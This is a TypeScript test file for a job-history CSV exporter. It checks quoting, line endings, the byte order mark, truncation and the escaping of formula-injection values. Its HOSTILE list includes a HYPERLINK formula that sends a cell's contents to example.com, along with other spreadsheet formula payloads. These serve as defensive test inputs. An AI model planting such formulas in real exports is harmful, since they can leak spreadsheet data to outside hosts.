import { spawn } from 'node:child_process';
import { text } from 'node:stream/consumers';
import { expect } from 'chai';
import { csvOf, type ExportedJob } from '#runtime/history/csv.ts';
import { requirePrograms } from '#test/support/processes/require-programs.ts';

const JOB: ExportedJob = {
  finishedAt: '2026-11-23T06:00:02Z',
  projectUid: '00000000-0000-4000-8000-000000000001',
  uid: '00000000-0000-4000-8000-000000000002',
  id: '00000000-0000-4000-8000-000000000003',
  clusterUid: '00000000-0000-4000-8000-000000000004',
  namespace: 'acme',
  name: 'zip-00000000-0000-4000-8000-000000000003',
  createdAt: '2026-11-23T06:00:00Z',
  startedAt: '2026-11-23T06:00:01Z',
  phase: 'Succeeded',
  reason: 'Uploaded',
  service: 's3',
  bucketName: 'reports',
  key: 'a.zip',
  files: 3,
  bytes: 4_096,
  durationMs: 1_000,
  createdBy: 'importer',
  webhookState: 'Delivered',
  runAgainOf: null,
  requestSha256: null,
  metadata: '{}',
};

async function* batchesOf(
  ...batches: readonly (readonly ExportedJob[])[]
): AsyncGenerator<readonly ExportedJob[]> {
  for (const batch of batches) yield await Promise.resolve(batch);
}

const READER = `import csv, io, json, sys
text = io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline='').read()
print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))`;

/** The rows as the csv module of Python reads them. */
async function readWithPython(csv: string): Promise<readonly (readonly string[])[]> {
  const python = spawn('python3', ['-c', READER], { stdio: ['pipe', 'pipe', 'inherit'] });
  python.stdin.end(csv);
  return JSON.parse(await text(python.stdout)) as string[][];
}

async function csvText(jobs: readonly ExportedJob[], maxRows = 1_000): Promise<string> {
  let csv = '';
  for await (const part of csvOf(batchesOf(jobs), maxRows)) csv += part;
  return csv;
}

const HOSTILE = [
  '=HYPERLINK("http://example.com/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];
const ORDINARY = [
  'a＝b',
  '１＋１',
  '…',
  '‐1',
  'a,b',
  'a;b',
  'say "yes"',
  '"',
  'two\r\nlines',
  ' = 1',
  'ä €😀',
  '',
  "'=1",
  '{"a":"=1"}',
];

const BYTE_ORDER_MARK = '\uFEFF';

describe('csv', () => {
  before(async function () {
    await requirePrograms(this, ['python3']);
  });

  it('writes a header and a line for each job that another program reads', async () => {
    const [header = [], row = [], ...others] = await readWithPython(await csvText([JOB]));
    expect(others).to.deep.equal([]);
    expect(Object.fromEntries(header.map((name, index) => [name, row[index]]))).to.deep.equal({
      id: JOB.id,
      namespace: 'acme',
      name: JOB.name,
      phase: 'Succeeded',
      reason: 'Uploaded',
      created_at: '2026-11-23T06:00:00Z',
      started_at: '2026-11-23T06:00:01Z',
      finished_at: '2026-11-23T06:00:02Z',
      duration_ms: '1000',
      service: 's3',
      bucket: 'reports',
      key: 'a.zip',
      files: '3',
      bytes: '4096',
      created_by: 'importer',
      webhook_state: 'Delivered',
      run_again_of: '',
      metadata: '{}',
    });
  });

  it('ends every line with CRLF and has no other line break outside of quotes', async () => {
    const csv = await csvText([{ ...JOB, key: 'two\nlines' }]);
    expect(csv.endsWith('\r\n')).to.equal(true);
    expect(csv.replaceAll(/"(?:[^"]|"")*"/g, '').replaceAll(/\r\n|,/g, '')).to.equal(BYTE_ORDER_MARK);
  });

  it('starts with a byte order mark, without which Excel reads another encoding', async () => {
    expect((await csvText([JOB])).startsWith(`${BYTE_ORDER_MARK}"id",`)).to.equal(true);
  });

  it('starts a value that a spreadsheet would run with an apostrophe, in each column with text of callers', async () => {
    const names = {
      key: 'key',
      metadata: 'metadata',
      createdBy: 'created_by',
      bucketName: 'bucket',
      reason: 'reason',
    };
    const columns = Object.entries(names);
    const jobs = columns.flatMap(([field]) => HOSTILE.map((value) => ({ ...JOB, [field]: value })));
    const [header = [], ...rows] = await readWithPython(await csvText(jobs));
    for (const [n, [, name]] of columns.entries()) {
      const ofColumn = rows.slice(n * HOSTILE.length, (n + 1) * HOSTILE.length);
      const found = ofColumn.map((row) => row[header.indexOf(name)]);
      expect(found, name).to.deep.equal(HOSTILE.map((value) => `'${value}`));
    }
  });

  it('starts a formula in another form of its sign with an apostrophe (N26)', async () => {
    const values = '＝＋－＠﹦﹢﹣﹫⁼⁺⁻−'.split('').map((sign) => `${sign}1+1`);
    const [, ...rows] = await readWithPython(await csvText(values.map((metadata) => ({ ...JOB, metadata }))));
    expect(rows.map((row) => row.at(-1))).to.deep.equal(values.map((value) => `'${value}`));
  });

  it('keeps every other value as it is', async () => {
    const jobs = ORDINARY.map((value) => ({ ...JOB, metadata: value }));
    const [, ...rows] = await readWithPython(await csvText(jobs));
    expect(rows.map((row) => row.at(-1))).to.deep.equal(ORDINARY);
  });

  it('leaves no cell without quotes, because spreadsheets split at other separators too', async () => {
    const csv = await csvText([{ ...JOB, key: 'a;=1+1' }]);
    expect(csv).to.include(',"a;=1+1",');
  });

  it('says in the last line that the export was cut, with as many cells as the others', async () => {
    const csv = await csvText([JOB, JOB, JOB], 2);
    const rows = await readWithPython(csv);
    expect(rows).to.have.length(4);
    expect(rows.at(-1)?.[0]).to.match(/^The export was cut after 2 jobs\./);
    expect(new Set(rows.map(({ length }) => length)).size).to.equal(1);
  });

  it('says nothing if the last job is the last that fits', async () => {
    const rows = await readWithPython(await csvText([JOB, JOB], 2));
    expect(rows).to.have.length(3);
    expect(rows.at(-1)?.[0]).to.equal(JOB.id);
  });

  it('takes the next batch only when the text before was taken, and ends the source when it is cut', async () => {
    let batches = 0;
    let isEnded = false;
    async function* source(): AsyncGenerator<readonly ExportedJob[]> {
      try {
        for (;;) {
          batches += 1;
          yield await Promise.resolve([JOB, JOB]);
        }
      } finally {
        isEnded = true;
      }
    }
    const csv = csvOf(source(), 5);
    await csv.next();
    expect(batches).to.equal(0);
    await csv.next();
    expect(batches).to.equal(1);
    for await (const _ of csv);
    expect({ batches, isEnded }).to.deep.equal({ batches: 3, isEnded: true });
  });
});
